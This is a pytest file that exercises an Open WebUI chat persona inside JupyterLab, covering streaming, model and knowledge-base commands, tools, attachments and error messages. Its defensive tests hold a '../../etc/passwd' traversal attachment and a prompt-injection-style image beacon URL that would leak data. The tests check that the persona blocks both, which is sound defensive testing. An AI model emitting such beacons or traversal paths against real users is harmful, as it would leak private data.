"""The Open WebUI persona's logic against the real test server, without a browser.

The persona runs as the persona manager runs it (`on_message`), on jupyterlab_chat's own
chat model for a ``.chat`` file (the model JupyterLab's server uses without collaboration),
so what it writes into the chat file and its metadata is what a user would get.
"""

from __future__ import annotations

import asyncio
import json
import subprocess
import sys
import uuid
from time import time

import pytest

pytest.importorskip("jupyter_ai_persona_manager")

from jupyterlab_chat.models import FileAttachment, Message, NotebookAttachment
from jupyterlab_chat.websocket_model import WsChatModel

from owui_notebook.client import validate_history
from owui_notebook.jupyter_ai.persona import OpenWebUIPersona
from owui_notebook.jupyter_ai.session import STATE_KEY


@pytest.fixture
def server_env(monkeypatch, owui_sandbox):
    """The connection as JupyterLab's server process would read it: the environment."""
    monkeypatch.setenv("OWUI_URL", owui_sandbox.url)
    monkeypatch.setenv("OWUI_API_KEY", owui_sandbox.api_key)
    return owui_sandbox


def open_chat(root, name="notes.chat"):
    """A chat file as JupyterLab makes it, with the persona in it."""
    path = root / name
    if not path.exists():
        path.write_text(json.dumps({"messages": [], "users": {}, "metadata": {}}))
    chat = WsChatModel(name, root)
    chat.load_from_file()
    persona = OpenWebUIPersona(chat=chat)
    persona.session.interval = 0.0  # every chunk an update: the test counts them
    return chat, persona


def user_message(body, attachments=None):
    return Message(
        id=str(uuid.uuid4()), body=body, time=time(), sender="user", attachments=attachments
    )


def replies(chat):
    return [m for m in chat.get_messages() if m.sender.startswith("jupyter-ai-personas::")]


def watch_updates(chat):
    """The bodies each message went through, in order, by message id."""
    seen = {}
    chat.observe_messages(lambda e: seen.setdefault(e.message.id, []).append(e.message.body))
    return seen


async def test_two_messages_stream_into_one_threaded_titled_chat(
    tmp_path, server_env, provider, client
):
    provider.configure("alpha", tokens_per_second=200, answer_tokens=30)
    chat, persona = open_chat(tmp_path)
    seen = watch_updates(chat)
    await persona.on_message(user_message("@Open-WebUI /model alpha"))
    await persona.on_message(user_message("@Open-WebUI Hello there"))
    await persona.on_message(user_message("And a second question"))
    await persona.shutdown()

    answers = replies(chat)[1:]
    assert len(answers) == 2
    # The answer grew in place over several updates before its footer came.
    first = answers[0]
    growing = [b for b in seen[first.id] if b.endswith(" ▌")]
    assert len(growing) >= 5 and len(set(growing)) == len(growing)
    assert "open in Open WebUI" in first.body and "first token" in first.body
    assert "tokens" in first.body and "▌" not in first.body

    # The chat file remembers its Open WebUI chat and model (saved in the file itself).
    saved = json.loads((tmp_path / "notes.chat").read_text())["metadata"][STATE_KEY]
    assert saved["model"] == "alpha" and saved["chat_id"]
    record = client.chats.get(saved["chat_id"])
    assert validate_history(record.chat) == []
    thread = record.chat["messages"]
    assert [m["role"] for m in thread] == ["user", "assistant", "user", "assistant"]
    assert thread[0]["content"] == "Hello there"  # the @-mention is not part of the prompt
    assert thread[2]["content"] == "And a second question"
    assert record.title and record.title != "New Chat"
    for answer in (thread[1], thread[3]):
        assert answer["model"] == "alpha" and answer["done"] is True
        assert answer["content"].split()[0] == "alpha"
        assert answer["content"] in first.body or answer["content"] in answers[1].body
        assert answer.get("usage")
    assert f"/c/{saved['chat_id']}" in first.body

    # Reopened later (a new server process): the same Open WebUI chat goes on.
    _, persona2 = open_chat(tmp_path)
    await persona2.on_message(user_message("Third"))
    await persona2.shutdown()
    record = client.chats.get(saved["chat_id"])
    assert [m["role"] for m in record.chat["messages"]].count("user") == 3
    assert validate_history(record.chat) == []

    # Another chat file is another Open WebUI chat.
    other, persona3 = open_chat(tmp_path, "other.chat")
    await persona3.on_message(user_message("Hi from the other file"))
    await persona3.shutdown()
    other_id = other.get_metadata()[STATE_KEY]["chat_id"]
    assert other_id and other_id != saved["chat_id"]
    assert len(client.chats.get(other_id).chat["messages"]) == 2


async def test_model_commands_and_an_unknown_model_are_one_clear_message(
    tmp_path, server_env, provider
):
    chat, persona = open_chat(tmp_path)
    before = len(provider.requests)
    await persona.on_message(user_message("/model alpah"))
    await persona.on_message(user_message("/model beta"))
    await persona.on_message(user_message("/model"))
    await persona.on_message(user_message("/frobnicate"))
    await persona.shutdown()
    bodies = [m.body for m in replies(chat)]
    assert bodies[0].startswith("⚠ no model 'alpah'") and "alpha" in bodies[0]
    assert "\n" not in bodies[0]
    assert bodies[1] == "Model for this chat: **beta**."
    assert bodies[2].startswith("Model for this chat: **beta**. Available:")
    assert bodies[3].startswith("Unknown command `/frobnicate`") and "/kb" in bodies[3]
    assert len(provider.requests) == before  # nothing went to a model
    assert chat.get_metadata()[STATE_KEY]["model"] == "beta"
    # The chat input's model picker sees the server's models and the chosen one.
    config = persona.get_model_configuration()
    assert config.current == "beta" and {"alpha", "beta"} <= {o.id for o in config.options}


async def test_no_connection_is_one_message(tmp_path, monkeypatch):
    monkeypatch.delenv("OWUI_URL", raising=False)
    monkeypatch.delenv("OWUI_API_KEY", raising=False)
    chat, persona = open_chat(tmp_path)
    await persona.on_message(user_message("Hello"))
    (reply,) = replies(chat)
    assert reply.body.startswith("⚠ No Open WebUI server: set `OWUI_URL`")


async def test_a_server_that_is_down_is_a_message_and_the_persona_goes_on(
    tmp_path, monkeypatch, server_env, provider
):
    from owui_notebook.sandbox.server import free_port

    monkeypatch.setenv("OWUI_URL", f"http://127.0.0.1:{free_port()}")
    chat, persona = open_chat(tmp_path)
    await persona.on_message(user_message("Hello"))
    (reply,) = replies(chat)
    assert reply.body.startswith("⚠ ") and "\n" not in reply.body
    assert "Traceback" not in reply.body and server_env.api_key not in reply.body
    # The server comes back (here: the right URL): the next message is answered.
    monkeypatch.setenv("OWUI_URL", server_env.url)
    persona.session.client = None
    await persona.on_message(user_message("/model alpha"))
    await persona.on_message(user_message("Hello again"))
    assert replies(chat)[-1].body.startswith("alpha says")


async def test_a_stopped_answer_is_kept_saved_and_marked(tmp_path, server_env, provider, client):
    provider.configure("alpha", tokens_per_second=20, answer_tokens=400)
    chat, persona = open_chat(tmp_path)
    await persona.on_message(user_message("/model alpha"))
    task = asyncio.ensure_future(persona.on_message(user_message("Tell me a long story")))
    while len(replies(chat)) < 2 or len(replies(chat)[-1].body) < 60:
        await asyncio.sleep(0.05)
    await persona.cancel_response()
    await asyncio.wait_for(task, 60)
    await persona.shutdown()
    answer = replies(chat)[-1].body
    assert "⏹ stopped, partial answer saved" in answer and "▌" not in answer
    chat_id = chat.get_metadata()[STATE_KEY]["chat_id"]
    record = client.chats.get(chat_id)
    assert validate_history(record.chat) == []
    saved = record.chat["messages"][-1]
    assert saved["role"] == "assistant" and saved["content"] and saved["content"] in answer
    assert len(saved["content"].split()) < 400


async def test_knowledge_and_tools_are_set_from_the_chat_and_shown_under_the_answer(
    tmp_path, server_env, provider, client
):
    from tests.helpers.tools import CALCULATOR

    folder = tmp_path / "kb"
    folder.mkdir()
    (folder / "falcon.md").write_text("Project Falcon launch code is 7731-amber.")
    name = f"Projects {uuid.uuid4().hex[:8]}"
    kb = client.knowledge.create_many({name: folder})[name]
    tool_id = f"calc_{uuid.uuid4().hex[:8]}"
    client.tools.create(tool_id, CALCULATOR, description="Adds numbers")
    try:
        chat, persona = open_chat(tmp_path)
        await persona.on_message(user_message("/model alpha"))
        await persona.on_message(user_message("/kb No Such KB"))
        await persona.on_message(user_message(f"/kb {name}"))
        await persona.on_message(user_message("What is the launch code of project Falcon?"))
        await persona.on_message(user_message(f"/kb none, /tools {tool_id}"))
        await persona.on_message(user_message("/kb none"))
        await persona.on_message(user_message(f"/tools {tool_id}"))
        await persona.on_message(user_message("Please add a=2 b=40 for me"))
        await persona.shutdown()
        bodies = [m.body for m in replies(chat)]
        assert bodies[1].startswith("⚠ no knowledge base 'No Such KB'")
        assert bodies[2] == f"Knowledge bases for this chat: `{name}`."
        assert f"📎 sources: `falcon.md ({name})`" in bodies[3]
        assert "🔧 `" + f"{tool_id}/add(a=2, b=40) → 2 + 40 = 42`" in bodies[-1]
        state = chat.get_metadata()[STATE_KEY]
        assert state["knowledge"] == [] and state["tools"] == [tool_id]
    finally:
        client.knowledge.delete(kb)
        client.tools.delete(tool_id)


async def test_attached_cells_and_files_are_the_prompts_context(tmp_path, server_env, provider):
    import nbformat

    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell("x = 41\nprint(x + 1)"), nbformat.v4.new_code_cell("y")]
    nbformat.write(nb, tmp_path / "work.ipynb")
    (tmp_path / "data.csv").write_text("a,b\n1,2\n")
    chat, persona = open_chat(tmp_path)
    cell = NotebookAttachment(
        value="work.ipynb", cells=[{"id": nb.cells[0].id, "input_type": "code"}]
    )
    ids = [chat.set_attachment(cell), chat.set_attachment(FileAttachment(value="data.csv"))]
    outside = chat.set_attachment(FileAttachment(value="../../etc/passwd"))
    await persona.on_message(user_message("/model alpha"))
    await persona.on_message(user_message("What does this do?", [*ids, outside]))
    await persona.shutdown()
    sent = provider.requests[-1]["messages"][-1]["content"]
    sent = sent if isinstance(sent, str) else json.dumps(sent)
    assert "What does this do?" in sent
    assert "From work.ipynb, cell 1:\n```python\nx = 41\nprint(x + 1)\n```" in sent
    assert "From data.csv:\n```\na,b\n1,2\n```" in sent
    assert "root:" not in sent and "\ny\n" not in sent


def test_neither_the_package_nor_load_ext_loads_the_persona():
    code = (
        "import sys, owui_notebook\n"
        "from IPython.testing.globalipapp import get_ipython\n"
        "ip = get_ipython(); ip.run_line_magic('load_ext', 'owui_notebook')\n"
        "print(' '.join(sys.modules))"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    loaded = set(out.stdout.split())
    assert "owui_notebook.magics" in loaded  # the extension did load
    assert not {m for m in loaded if m.startswith(("owui_notebook.jupyter_ai", "jupyter_ai"))}
    assert "jupyterlab_chat" not in loaded


async def test_a_hostile_answer_can_load_nothing_in_the_chat(tmp_path, server_env, provider):
    """JupyterLab's chat renders Markdown with images and some HTML: the persona writes the
    model's text so that nothing in it is fetched (a prompt-injected answer could leak data
    through an image URL) while code stays as written."""
    hostile = (
        "Here <img src=http://127.0.0.1:9/beacon?d=secret> and ![x](http://127.0.0.1:9/i.png)"
        " and `a<b`."
    )
    provider.configure("alpha", reply=hostile)
    chat, persona = open_chat(tmp_path)
    await persona.on_message(user_message("/model alpha"))
    await persona.on_message(user_message("Say it"))
    await persona.shutdown()
    answer = replies(chat)[-1].body
    assert "<img" not in answer and "![" not in answer
    assert "&lt;img src=http://127.0.0.1:9/beacon?d=secret>" in answer
    assert "[image: x](http://127.0.0.1:9/i.png)" in answer and "`a<b`" in answer
